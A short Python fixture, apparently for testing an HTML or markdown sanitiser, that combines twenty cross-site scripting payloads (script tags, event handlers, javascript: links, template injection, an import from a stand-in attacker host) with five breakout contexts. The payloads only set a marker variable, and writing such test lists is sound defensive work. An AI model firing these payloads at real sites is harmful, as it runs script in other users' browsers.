"""A hundred strings that try to run a script, from a few ways to do so and the places that they try to break out of."""

TRIES = [
    "<script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    "<svg onload=window.hacked=1>",
    "<svg><script>window.hacked=1</script></svg>",
    "<a href='javascript:window.hacked=1'>x</a>",
    "[x](javascript:window.hacked=1)",
    '[x](https://a.example/"onclick="window.hacked=1)',
    "javascript:window.hacked=1",
    "data:text/html,<script>window.hacked=1</script>",
    'https://a.example/"><script>window.hacked=1</script>',
    "{{constructor.constructor('window.hacked=1')()}}",
    "${window.hacked=1}",
    "<b onmouseover=window.hacked=1>b</b>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'>",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "<style>@import 'https://evil.example'</style>",
    "<math><mtext><script>window.hacked=1</script>",
    "<body onload=window.hacked=1>",
    "<details open ontoggle=window.hacked=1>",
    "<input autofocus onfocus=window.hacked=1>",
]
PLACES = ["{}", "</textarea>{}", '">{}', "**{}**", "`{}` and ' -- \u202e"]
INJECTIONS = [place.replace("{}", text) for place in PLACES for text in TRIES]
